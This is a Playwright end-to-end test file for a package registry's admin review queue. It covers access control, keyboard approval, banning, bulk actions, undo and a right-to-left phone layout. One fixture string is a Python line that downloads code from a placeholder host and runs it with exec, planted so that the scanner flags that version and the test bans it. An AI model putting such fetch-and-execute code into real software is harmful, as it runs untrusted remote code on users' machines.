import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
import { publish } from '../server/test/command-line-client.ts'
import { buildPack } from '../server/test/pack.ts'
import { fitsItsWidth } from './looks.ts'
import { menuOf, signUp, waitForLogIn } from './people.ts'
import { type Product, useProduct } from './product.ts'

const holder = useProduct({}, {}, fillQueue)
const waiting = 200
const nodeId = 'soft-blur'
const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'

/** Fills the queue: the real pipeline flagged one version, the others share an archive that it never saw. */
async function fillQueue({ world, apiUrl }: Product): Promise<void> {
  const { deps } = world
  await createPublisherFor(deps, {
    id: 'lumen',
    name: 'Lumen',
    description: '',
    ownerEmail: 'owner@lumen.test',
  })
  const token = await createTokenFor(deps, 'lumen', 'queue')
  for (const [version, files] of Object.entries({ '1.0.0': {}, '1.1.0': { 'helper.py': suspicious } })) {
    const archive = buildPack({ id: nodeId, version, files })
    const node = { name: 'Soft blur', description: 'Blurs pictures softly.' }
    await publish({ apiUrl, publisherId: 'lumen', nodeId, token, version, node, archive })
    await world.runJobs()
  }
  const archive_digest = await world.given.archive(buildPack({ id: nodeId, version: '2.0.0' }))
  for (let count = 1; count < waiting; count++) {
    await world.given.version({ node_id: nodeId, version: `2.${count}.0`, status: 'flagged', archive_digest })
  }
}

/** Signs up a user and makes them an admin. */
async function signUpAdmin(page: Page): Promise<void> {
  const email = await signUp(page, '/account')
  await holder.product.world.deps.db
    .updateTable('users')
    .set({ is_admin: true })
    .where('email', '=', email)
    .execute()
}

async function countOf(status: 'flagged' | 'active' | 'banned'): Promise<number> {
  const rows = await holder.product.world.deps.db
    .selectFrom('node_versions')
    .select('id')
    .where('status', '=', status)
    .execute()
  return rows.length
}

describe('the review queue', () => {
  it('opens from the menu for admins, explains the refusal to users and asks anonymous users to log in', async () => {
    const { page: ofStranger } = await holder.product.visit()
    await ofStranger.goto('/admin/nodeversions')
    await waitForLogIn(ofStranger, '/admin/nodeversions')

    const { page } = await holder.product.visit()
    await signUp(page, '/account')
    await page.goto('/admin')
    await page.getByRole('heading', { name: 'This page is for admins' }).waitFor()

    const { page: ofAdmin } = await holder.product.visit()
    await signUpAdmin(ofAdmin)
    await ofAdmin.goto('/')
    await menuOf(ofAdmin).click()
    await ofAdmin.getByRole('link', { name: 'Admin Dashboard' }).click()
    await ofAdmin.getByRole('heading', { level: 1, name: 'Admin Dashboard' }).waitFor()
    await holder.product.picture(ofAdmin, 'admin')
  })

  it('lets an admin decide 200 versions by keyboard, individually and in bulk, and undo decisions', async () => {
    const { page } = await holder.product.visit()
    await signUpAdmin(page)
    await page.goto('/admin/nodeversions')
    await page.getByText('200 versions').waitFor()
    await page.getByText('helper.py').first().waitFor()
    await page
      .locator('.code-lines tr[data-picked] + tr')
      .getByText('runs what comes from the network')
      .waitFor()
    await page.getByRole('button', { name: /^Changed pyproject\.toml/ }).click()
    await page.locator('.split-lines').getByText('version = "1.0.0"').waitFor()
    // The second finding is about this file; the one before it has a line.
    await page.keyboard.press('p')
    await page.locator('.code-lines tr[data-picked]').waitFor()
    await holder.product.picture(page, 'review-queue')

    const done = (text: string) =>
      page.getByRole('region', { name: 'Results of the last decision' }).getByText(text).waitFor()
    await page.keyboard.press('r')
    await page.getByRole('dialog').getByLabel('Reason').fill('It runs what it downloads.')
    await page.keyboard.press('Enter')
    await page.getByText('199 versions').waitFor()
    for (const left of [198, 197]) {
      await approve(page)
      await page.getByText(`${left} versions`).waitFor()
    }
    await done('1 of 1 done')
    await page.getByText('New admin token created').waitFor()
    assert.deepEqual([await countOf('banned'), await countOf('active')], [1, 3])

    await page.keyboard.press('Shift+ArrowDown')
    await page.keyboard.press('Shift+ArrowDown')
    await page.getByText('3 selected').waitFor()
    // Repeating the key does not confirm, because the publisher reads the moderator's text.
    await page.keyboard.press('a')
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').getByText('The versions will be listed').waitFor()
    await page.keyboard.press('Escape')
    await approve(page)
    await done('3 of 3 done')
    await holder.product.picture(page, 'review-queue-batch')
    await page.keyboard.press('u')
    await page.getByRole('dialog').getByText('3 items affected').waitFor()
    await page.keyboard.press('Enter')
    await page.getByText('197 versions').waitFor()
    await page.waitForFunction(() => !document.body.textContent?.includes('Saving…'))
    assert.equal(await countOf('flagged'), 197)

    for (const left of [100, 0]) {
      const open = left === 100 ? 97 : 100
      await page.getByRole('button', { name: `Select all ${open}` }).waitFor()
      await page.keyboard.press('*')
      await page.getByText(`${open} selected`).waitFor()
      await approve(page)
      await page
        .getByText(left === 100 ? '100 versions' : 'All clear.')
        .first()
        .waitFor()
    }
    assert.deepEqual(
      [await countOf('banned'), await countOf('active'), await countOf('flagged')],
      [1, 200, 0],
    )
    await page.keyboard.press('u')
    await page.getByRole('dialog').getByText('100 items affected').waitFor()
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Select all 100' }).waitFor()
    assert.equal(await countOf('flagged'), 100)

    await page.goto('/admin/nodeversions?status=banned')
    await page.getByText('exec(requests.get(').first().waitFor({ state: 'attached' })
  })

  async function approve(page: Page): Promise<void> {
    await page.keyboard.press('a')
    await page.getByRole('dialog').getByLabel('Reason').fill('Read it: nothing but a test.')
    await page.keyboard.press('Enter')
  }

  it('fits a phone in Arabic and the dark theme, from right to left', async () => {
    const { page } = await holder.product.visit({
      colorScheme: 'dark',
      viewport: { width: 390, height: 844 },
      hasTouch: true,
    })
    await signUpAdmin(page)
    await page.goto('/ar/admin/nodeversions?status=banned,active')
    await page.getByRole('heading', { level: 1, name: 'قائمة المراجعة' }).waitFor()
    await page.getByRole('button', { name: 'قبول' }).first().waitFor()
    await holder.product.picture(page, 'review-queue-ar-phone')
    await fitsItsWidth(page, 'the review queue')
  })
})
